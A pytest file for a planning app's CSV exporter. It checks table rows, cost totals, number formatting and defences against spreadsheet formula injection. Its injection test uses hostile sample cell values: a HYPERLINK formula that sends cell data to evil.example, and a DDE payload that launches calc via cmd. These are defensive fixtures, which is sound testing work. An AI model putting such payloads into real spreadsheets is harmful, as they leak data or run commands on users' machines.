"""CSV tables: a UTF-8-with-BOM file per table, rows matching the plan, formulas neutralised, totals exact."""

from __future__ import annotations

import csv
import dataclasses
from pathlib import Path

import pytest

from app.engine.cost import CostReport, compute_costs
from app.engine.model import Plan
from app.engine.schedule import Schedule, compute_schedule
from app.errors import InputError
from app.exporters.csv_export import TABLES, money, text, write_csv_tables
from app.storage.interchange import read_json
from tests.conftest import SAMPLES

SAMPLE_FILES = sorted(SAMPLES.glob("*.json"))
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click £")'


def _read(path: Path) -> list[dict[str, str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM, so Excel reads the file as UTF-8 (and £ as £)
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def _export(plan: Plan, folder: Path) -> tuple[Schedule, CostReport, dict[str, list[dict[str, str]]]]:
    schedule = compute_schedule(plan)
    costs = compute_costs(plan, schedule)
    paths = write_csv_tables(plan, folder, schedule, costs)
    assert [p.name for p in paths] == list(TABLES) and all(p.parent == folder for p in paths)
    return schedule, costs, {p.name: _read(p) for p in paths}


@pytest.mark.parametrize("sample", SAMPLE_FILES, ids=lambda p: p.stem)
def test_every_table_has_its_header_and_one_row_per_record(sample: Path, tmp_path: Path) -> None:
    plan = read_json(sample)
    schedule, costs, tables = _export(plan, tmp_path / "out")
    assert len(tables["systems.csv"]) == len(plan.systems)
    assert len(tables["integrations.csv"]) == len(plan.integrations)
    assert len(tables["phases.csv"]) == len(plan.phases)
    assert len(tables["schedule.csv"]) == len(plan.tasks)
    assert len(tables["cost-lines.csv"]) == len(costs.lines) * len(costs.fy_labels)
    assert len(tables["cost-by-fy.csv"]) == len(costs.fy_labels) + 1
    assert [r["id"] for r in tables["systems.csv"]] == [s.id for s in plan.systems]
    for row, task in zip(tables["schedule.csv"], plan.tasks, strict=True):
        assert row["id"] == task.id
        assert row["start"] == schedule.start_of(task.id).isoformat()
        assert row["finish"] == schedule.finish_of(task.id).isoformat()
        i = schedule.index[task.id]
        assert int(row["total_float_days"]) == int(schedule.total_float[i])
        assert row["critical"] == ("yes" if schedule.critical[i] else "no")
        assert row["predecessors"].count(";") == max(0, len(task.predecessors) - 1)
    assert set(tables["systems.csv"][0]) >= {"id", "name", "annual_run_cost", "contract_end"}


@pytest.mark.parametrize("sample", SAMPLE_FILES, ids=lambda p: p.stem)
def test_cost_totals_equal_the_report(sample: Path, tmp_path: Path) -> None:
    _, costs, tables = _export(read_json(sample), tmp_path)
    total = tables["cost-by-fy.csv"][-1]
    assert total["fy"] == "Total"
    assert total["migrate"] == f"{costs.total_migrate:.2f}"
    assert total["do_minimum"] == f"{costs.total_do_minimum:.2f}"
    assert total["optimism_bias"] == f"{costs.optimism_bias:.2f}"
    assert total["migrate_with_optimism_bias"] == f"{costs.total_migrate_with_ob:.2f}"
    assert total["discounted_migrate"] == f"{costs.npc_migrate:.2f}"
    assert total["discounted_do_minimum"] == f"{costs.npc_do_minimum:.2f}"
    years = tables["cost-by-fy.csv"][:-1]
    assert [r["fy"] for r in years] == list(costs.fy_labels)
    for row in years:
        assert row["migrate"] == f"{costs.by_fy_migrate[row['fy']]:.2f}"
    # the per-item rows add up to the year totals, to the rounding of each cell
    base = {(i.id, i.option) for i in costs.items(base=True)}
    for fy in costs.fy_labels:
        items = [r for r in tables["cost-lines.csv"] if r["fy"] == fy and r["option"] == "migrate"
                 and (r["item_id"].lstrip("'"), "migrate") in base]
        added = sum(float(r["amount"]) for r in items)
        assert added == pytest.approx(costs.by_fy_migrate[fy], abs=0.01 * len(items))


def test_formula_like_text_is_neutralised(tmp_path: Path) -> None:
    plan = read_json(SAMPLE_FILES[0])
    plan = dataclasses.replace(
        plan,
        systems=(dataclasses.replace(plan.systems[0], name=HOSTILE, vendor="+cmd|' /C calc'!A0"),
                 *plan.systems[1:]),
        tasks=(dataclasses.replace(plan.tasks[0], name="@SUM(1+1)", notes="-2+3"), *plan.tasks[1:]),
    )
    _, _, tables = _export(plan, tmp_path)
    system = tables["systems.csv"][0]
    assert system["name"] == "'" + HOSTILE
    assert system["vendor"].startswith("'+")
    task = tables["schedule.csv"][0]
    assert (task["name"], task["notes"]) == ("'@SUM(1+1)", "'-2+3")
    assert "£" in (tmp_path / "systems.csv").read_bytes().decode("utf-8-sig")
    every_cell = [c for rows in tables.values() for row in rows for c in row.values()]
    assert not [c for c in every_cell if c.startswith(("=", "+", "@")) and not c.startswith("'")]


def test_cell_formatting() -> None:
    assert [text(v) for v in ("=1+1", "+1", "-1", "@x", "\tx", "\rx", "plain", "", None)] == [
        "'=1+1", "'+1", "'-1", "'@x", "'\tx", "'\rx", "plain", "", ""]
    assert [money(v) for v in (1234.5, -0.001, 0.006, -12.346)] == ["1234.50", "0.00", "0.01", "-12.35"]


def test_numbers_and_dates_are_not_quoted(tmp_path: Path) -> None:
    _, _, tables = _export(read_json(SAMPLE_FILES[-1]), tmp_path)
    for row in tables["cost-by-fy.csv"]:
        for key, value in row.items():
            if key != "fy" and value:
                float(value)  # a plain number, no quote, no £, no thousands separator
    for row in tables["schedule.csv"]:
        assert len(row["start"]) == 10 and row["start"][4] == "-"


def test_rewrites_replace_files_and_errors_are_input_errors(tmp_path: Path) -> None:
    plan = read_json(SAMPLE_FILES[0])
    write_csv_tables(plan, tmp_path)
    write_csv_tables(plan, tmp_path)
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(TABLES)  # no temporary files left
    blocker = tmp_path / "file"
    blocker.write_text("x", encoding="utf-8")
    with pytest.raises(InputError, match="cannot create the folder"):
        write_csv_tables(plan, blocker / "out")
